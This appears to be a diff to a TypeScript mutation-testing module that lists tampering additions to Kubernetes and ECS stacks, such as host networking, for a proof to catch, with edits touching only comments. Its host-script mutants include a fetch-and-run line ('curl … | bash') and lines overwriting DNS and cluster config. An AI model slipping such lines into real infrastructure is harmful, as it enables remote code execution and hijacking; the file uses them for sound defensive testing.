@@ -1,13 +1,13 @@
 /**
- * What somebody may add to the example's stacks, so that they no longer mount: to pods, volumes, profiles, tasks and
- * container instances. Each is caught by the proof, without an excuse.
+ * Additions to the example's stacks after which they no longer mount: in pods, volumes, profiles, tasks and container
+ * instances. The proof must catch each one.
  */
 import { embedded, formOf } from "./embedded";
 import { changed, type Json, type Mutant, type Stacks } from "./mutants";
 
 interface Addition {
   readonly how: string;
-  /** From the object or resource; numbers behind the end of a list append to it. */
+  /** A path in the object or resource; an index past the end of a list appends to it. */
   readonly at: readonly string[];
   readonly value: Json;
 }
@@ -16,7 +16,7 @@ const pod = ["spec", "template", "spec"];
 const container = [...pod, "containers", "0"];
 const arm = [{ matchExpressions: [{ key: "kubernetes.io/arch", operator: "In", values: ["arm64"] }] }];
 
-/** By the kind of the object, as its key begins. */
+/** By the kind of the object, as at the beginning of its key. */
 const toObjects: Readonly<Record<string, readonly Addition[]>> = {
   "80-deployment": [
     { how: "host network", at: [...pod, "hostNetwork"], value: true },
@@ -102,7 +102,7 @@ const toResources: Readonly<Record<string, readonly Addition[]>> = {
   ],
 };
 
-/** Lines behind the last of a host's script. */
+/** Lines after the last line of a host's script. */
 const lines: Readonly<Record<string, string>> = {
   "another name server": 'echo "nameserver 192.0.2.53" > /etc/resolv.conf',
   "another cluster": "echo ECS_CLUSTER=elsewhere > /etc/ecs/ecs.config",
@@ -111,7 +111,7 @@ const lines: Readonly<Record<string, string>> = {
   "what is fetched": "curl -s https://example.com/setup.sh | bash",
 };
 
-/** @param services of which services the tasks mount */
+/** @param services the services whose tasks mount */
 export function* additions(stacks: Stacks, services: RegExp): Iterable<Mutant> {
   for (const [stack, json] of Object.entries(stacks)) {
     const resources = record(record(json)["resource"] ?? {});
